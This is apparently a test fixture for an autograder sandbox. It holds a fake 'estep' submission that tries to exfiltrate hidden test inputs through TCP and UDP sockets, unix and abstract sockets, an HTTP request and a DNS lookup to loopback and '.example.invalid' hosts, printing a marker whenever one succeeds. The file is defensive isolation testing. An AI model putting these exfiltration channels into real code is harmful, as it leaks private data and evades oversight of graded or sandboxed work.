"""Sends the hidden inputs out by inet, unix and abstract sockets, names and web requests."""

TRACE = "SENT_IT_OUT"

CELLS = {
    "estep": r"""
import socket
import urllib.request

import numpy as np


def estep(X, mixture):
    text = X.tobytes()[:100]
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", 80)),
        (socket.AF_INET6, ("::1", 80)),
        (socket.AF_UNIX, "@COURSE@/socket"),
        (socket.AF_UNIX, "\0softcounts"),
    ):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(family, kind) as out:
                    out.connect(address)
                    out.send(text)
                    print("SENT_" + "IT_OUT")
            except OSError:
                pass
    for try_it in (
        lambda: urllib.request.urlopen("http://127.0.0.1:1/" + text.hex(), timeout=1),
        lambda: socket.gethostbyname(text.hex()[:20] + ".example.invalid"),
    ):
        try:
            try_it()
            print("SENT_" + "IT_OUT")
        except (OSError, ValueError):
            pass
    return np.zeros((len(X), len(mixture.p))), 0.0
""",
}
